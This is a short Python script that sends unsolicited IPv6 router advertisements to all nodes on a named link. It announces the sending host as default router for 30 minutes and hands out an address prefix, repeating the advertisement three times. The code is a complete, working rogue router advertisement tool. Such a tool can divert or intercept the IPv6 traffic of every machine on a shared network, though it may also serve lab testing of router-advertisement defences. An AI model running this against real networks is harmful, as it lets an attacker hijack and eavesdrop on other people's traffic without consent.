#!/usr/bin/env python3
"""Offer to be the default router of everybody on a link: send-ra.py LINK.

A router advertisement (RFC 4861) with a lifetime of 30 minutes and a prefix to make addresses of.
"""
import socket
import struct
import sys

link = sys.argv[1]
index = socket.if_nametoindex(link)
sock = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
sock.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, 255)
sock.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_IF, index)
# The kernel fills in the checksum.
header = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0)
prefix = struct.pack("!BBBBIII", 3, 4, 64, 0xC0, 86400, 14400, 0) + socket.inet_pton(
    socket.AF_INET6, "2001:db8:bad::"
)
for _ in range(3):
    sock.sendto(header + prefix, ("ff02::1", 0, 0, index))
